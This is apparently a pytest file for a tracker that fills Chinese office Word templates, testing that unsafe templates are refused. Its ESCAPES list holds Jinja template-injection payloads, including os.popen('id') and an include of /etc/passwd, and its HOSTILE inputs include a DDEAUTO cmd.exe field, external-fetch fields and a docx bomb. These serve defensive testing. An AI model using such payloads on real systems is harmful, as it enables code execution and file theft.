"""An office's Word template: filled with plain values in a process of its own, and nothing else it asks for."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pytest
from docx import Document
from docx.shared import Mm

from tracker.documents.word import template_filling
from tracker.documents.word.papers import WordPaperWriter
from tracker.documents.word.templates import ProcessPaperTemplates
from tracker.domain.errors import TemplateRefused
from tracker.domain.paper_templates import REQUIRED, bare_facts, sample_facts, starter, values_of

VALUES = values_of(sample_facts("supervision_notice"))
SAMPLES = (VALUES, values_of(bare_facts("supervision_notice")))
TEMPLATES = ProcessPaperTemplates()
NEEDED = tuple(f"{{{{ {name} }}}}" for name in REQUIRED if name not in ("正文", "事项"))
LOOPS = ("{%p for 段 in 正文 %}", "{{ 段 }}", "{%p endfor %}", "{%p for 项 in 事项 %}", "{{ 项.序号 }}. {{ 项.内容 }}", "{%p endfor %}")  # fmt: skip


def template(*paragraphs: str, cell: str = "", header: str = "") -> bytes:
    """Return a template with everything that one needs, and these paragraphs besides."""
    document = Document()
    for text in (*NEEDED, *LOOPS, *paragraphs):
        document.add_paragraph(text)
    if cell:
        document.add_table(2, 2).cell(1, 0).text = cell
    if header:
        document.sections[0].header.paragraphs[0].text = header
    return saved(document)


def saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def words(content: bytes) -> str:
    return "\n".join(paragraph.text for paragraph in Document(io.BytesIO(content)).paragraphs)


def problems(content: bytes) -> list[str]:
    with pytest.raises(TemplateRefused) as refused:
        TEMPLATES.check(content, SAMPLES)
    return list(refused.value.problems)


def rewritten(content: bytes, changes: dict[str, bytes]) -> bytes:
    """Return a package with parts replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if name not in changes:
                after.writestr(name, before.read(name))
        for name, part in changes.items():
            after.writestr(name, part)
    return out.getvalue()


def part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(name)


def png(side: int, padding: int = 0) -> bytes:
    """Return a PNG of side × side pixels, padded with a comment."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(b"".join(b"\x00" + b"\xff" * side for _ in range(side)))
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    comment = chunk(b"tEXt", b"Comment\x00" + random.Random(7).randbytes(padding)) if padding else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + comment + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_a_template_is_filled_with_the_papers_own_words_and_every_line():
    content = template("{{ 签收情况 }}（{{ 附注 }}）", header="{{ 标记 }}")
    TEMPLATES.check(content, SAMPLES)
    filled = words(TEMPLATES.fill(content, VALUES))
    for said in (VALUES["标题"], VALUES["文号"], "这是第二段。", "3. “示例工作3”"):
        assert said in filled
    assert "{{" not in filled
    assert "{%" not in filled


def test_the_template_that_offices_begin_with_is_one_that_can_be_used():
    content = WordPaperWriter().word(starter("{{ 发文机关标志 }}"))
    TEMPLATES.check(content, SAMPLES)
    assert "1. “示例工作1”" in words(TEMPLATES.fill(content, VALUES))


def test_words_of_a_paper_never_become_markup_or_instructions():
    values = {**VALUES, "主送": "<w:b/>{{ 7*7 }}{% for x in 正文 %}&村\x07"}
    assert "<w:b/>{{ 7*7 }}{% for x in 正文 %}&村" in words(TEMPLATES.fill(template(), values))


ESCAPES = (
    "{{''.__class__}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ 标题.__class__ }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ lipsum() }}",
    "{{ joiner() }}",
    "{{ namespace() }}",
    "{{ self._TemplateReference__context }}",
    "{{ self }}",
    "{{ config }}",
    "{{ request }}",
    "{{ range(10) }}",
    "{{ dict(a=1) }}",
    "{{ 标题.upper() }}",
    "{{ '{0.__class__}'.format(标题) }}",
    "{{ 标题|format }}",
    "{{ 标题|map(attribute='__class__')|list }}",
    "{{ 正文|tojson }}",
    "{{ 标题|safe }}",
    "{{ 正文.append(1) }}",
    "{{ 正文.append }}",
    "{{ 'x' * 1000000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ loop.__init__ }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'base' %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% set x = ''.__class__ %}{{ x }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% do 正文.append(1) %}",
    "{% debug %}",
)  # fmt: skip


@pytest.mark.parametrize("escape", ESCAPES)
def test_known_escapes_print_nothing(escape):
    with pytest.raises(template_filling.FILLING_ERRORS):
        template_filling.fill(io.BytesIO(template(escape)), VALUES)


@pytest.mark.parametrize("escape", ESCAPES[:36:7])
def test_known_escapes_are_refused_at_the_upload_and_at_the_print(escape):
    content = template(escape)
    assert problems(content)
    with pytest.raises(TemplateRefused):
        TEMPLATES.fill(content, VALUES)


def test_a_whole_list_is_no_word_of_a_paper():
    assert "不允许的写法" in problems(template("{{ 正文 }}"))[0]


@pytest.mark.slow
@pytest.mark.parametrize("depth", [8, 30])
def test_loops_within_loops_are_stopped_by_the_limits(depth):
    opened = "".join(f"{{% for a{n} in 事项 %}}" for n in range(depth))
    closed = "{% endfor %}" * depth
    many = {**VALUES, "事项": VALUES["事项"] * 60}
    with pytest.raises(TemplateRefused) as refused:
        TEMPLATES.fill(template(f"{opened}{{{{ a0.内容 }}}}{closed}"), many)
    assert refused.value.problems[0]


@pytest.mark.parametrize(
    ("given", "place", "named"),
    [
        ({"paragraphs": ("甲：{{ 发文字号 }}",)}, "正文第12段“甲：{{ 发文字号 }}”", "是不是“文号”"),
        ({"cell": "{{ 收文单位 }}"}, "第1个表格第2行第1格“{{ 收文单位 }}”", "“收文单位”"),
        ({"header": "{{ 密级 }}"}, "页眉第1段“{{ 密级 }}”", "“密级”"),
        ({"paragraphs": ("{% for 行 in 事项 %}{{ 行.负责人 }}{% endfor %}",)}, "正文第12段", "没有“负责人”这一项"),
        ({"paragraphs": ("{{ 标题",)}, "", "写法"),
        ({"paragraphs": ("{% if 附注 %}甲",)}, "正文第12段", "没有配对"),
        ({"paragraphs": ("{{ 标题|upper }}",)}, "正文第12段", "过滤器只能用"),
    ],
)
def test_a_wrong_placeholder_is_named_with_its_place(given, place, named):
    paragraphs = given.pop("paragraphs", ())
    said = "\n".join(problems(template(*paragraphs, **given)))
    assert place in said
    assert named in said


def test_several_wrong_placeholders_are_all_named_at_once():
    assert len(problems(template("{{ 甲 }}", "{{ 乙 }}", cell="{{ 丙 }}"))) == 3


def test_a_template_that_hides_that_a_paper_is_a_draft_is_refused():
    document = Document()
    for text in (*(one for one in NEEDED if "标记" not in one), *LOOPS):
        document.add_paragraph(text)
    assert "缺少占位符 {{ 标记 }}" in problems(saved(document))[0]


@pytest.mark.parametrize("name", REQUIRED)
def test_what_a_template_names_and_does_not_print_is_refused_by_its_name(name):
    listed = {"正文": LOOPS[:3], "事项": LOOPS[3:]}
    kept = [text for one in REQUIRED if one != name for text in listed.get(one, (f"{{{{ {one} }}}}",))]
    document = Document()
    for text in (*kept, f"{{% if {name} %}}有{{% endif %}}"):
        document.add_paragraph(text)
    (said,) = problems(saved(document))
    assert f"{{{{ {name} }}}}" in said
    assert "没有它的内容" in said


@pytest.mark.parametrize("other", ["附注", "抄送", "签收情况", "安排"])
def test_what_must_be_printed_hangs_on_nothing_that_a_paper_may_lack(other):
    document = Document()
    for text in (
        *(one for one in NEEDED if "文号" not in one),
        *LOOPS,
        f"{{% if {other} %}}{{{{ 文号 }}}}{{% endif %}}",
    ):
        document.add_paragraph(text)
    (said,) = problems(saved(document))
    assert "{{ 文号 }}" in said


def test_a_template_that_prints_one_line_of_three_is_refused():
    document = Document()
    for text in (*NEEDED, *LOOPS[:3], "{{ 事项.0.内容 }}"):
        document.add_paragraph(text)
    assert "{{ 事项 }}" in problems(saved(document))[0]


def test_a_picture_in_the_head_stays():
    document = Document(io.BytesIO(template()))
    document.add_picture(io.BytesIO(png(64)), width=Mm(20))
    content = saved(document)
    TEMPLATES.check(content, SAMPLES)
    with zipfile.ZipFile(io.BytesIO(TEMPLATES.fill(content, VALUES))) as package:
        assert [name for name in package.namelist() if name.startswith("word/media/")]


def with_picture(content: bytes, picture: bytes) -> bytes:
    document = Document(io.BytesIO(content))
    document.add_picture(io.BytesIO(png(8)), width=Mm(20))
    written = saved(document)
    return rewritten(written, {"word/media/image1.png": picture})


def test_a_logo_of_four_megabytes_is_refused_with_what_to_do():
    content = with_picture(template(), png(8, padding=4 * 1024**2))
    said = problems(content)[0]
    assert said.startswith("模板有4 MB，上限是3 MB")
    assert "压缩图片" in said
    assert "“image1.png”有2 MB，上限是1 MB" in problems(with_picture(template(), png(8, padding=2 * 1024**2)))[0]


def test_a_large_picture_that_packs_small_is_refused():
    said = problems(with_picture(template(), png(4000)))[0]
    assert "4000×4000像素" in said


def fake(main: str, name: str, content: bytes) -> bytes:
    types = part(template(), "[Content_Types].xml").replace(b"document.main+xml", main.encode())
    return rewritten(template(), {"[Content_Types].xml": types, name: content})


HOSTILE = {
    "a macro file that was renamed": lambda: fake("document.macroEnabled.main+xml", "word/vbaProject.bin", b"x"),
    "a docx bomb": lambda: rewritten(template(), {"word/media/image9.png": b"\x00" * (16 * 1024**2)}),
    "a picture from elsewhere": lambda: rewritten(template(), {
        "word/_rels/document.xml.rels": part(template(), "word/_rels/document.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
            b' Target="http://example.invalid/logo.png" TargetMode="External"/></Relationships>',
        )}),
    "a template from elsewhere": lambda: rewritten(template(), {
        "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://example.invalid/a.dotm" TargetMode="External"/></Relationships>'}),
    "a field that fetches": lambda: rewritten(template(), {
        "word/document.xml": part(template(), "word/document.xml").replace(
            b"<w:sectPr", b"<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "
            b'"http://example.invalid/a.png"</w:instrText></w:r></w:p><w:sectPr', 1)}),
    "a field that runs": lambda: rewritten(template(), {
        "word/document.xml": part(template(), "word/document.xml").replace(
            b"<w:sectPr", b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p><w:sectPr', 1)}),
    "entities": lambda: rewritten(template(), {
        "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>'
        + part(template(), "word/document.xml").split(b"?>", 1)[1]}),
    "another document inside": lambda: rewritten(template(), {
        "word/document.xml": part(template(), "word/document.xml").replace(
            b"<w:sectPr", b'<w:altChunk xmlns:r="r" r:id="rId9"/><w:sectPr', 1)}),
    "a page of the web": lambda: b"<html></html>",
    "an old document": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "nothing": lambda: b"",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_that_acts_or_fetches_is_refused_before_it_is_opened(name):
    with pytest.raises(TemplateRefused) as refused:
        TEMPLATES.check(HOSTILE[name](), SAMPLES)
    assert all(one.endswith(("。", "？")) for one in refused.value.problems)
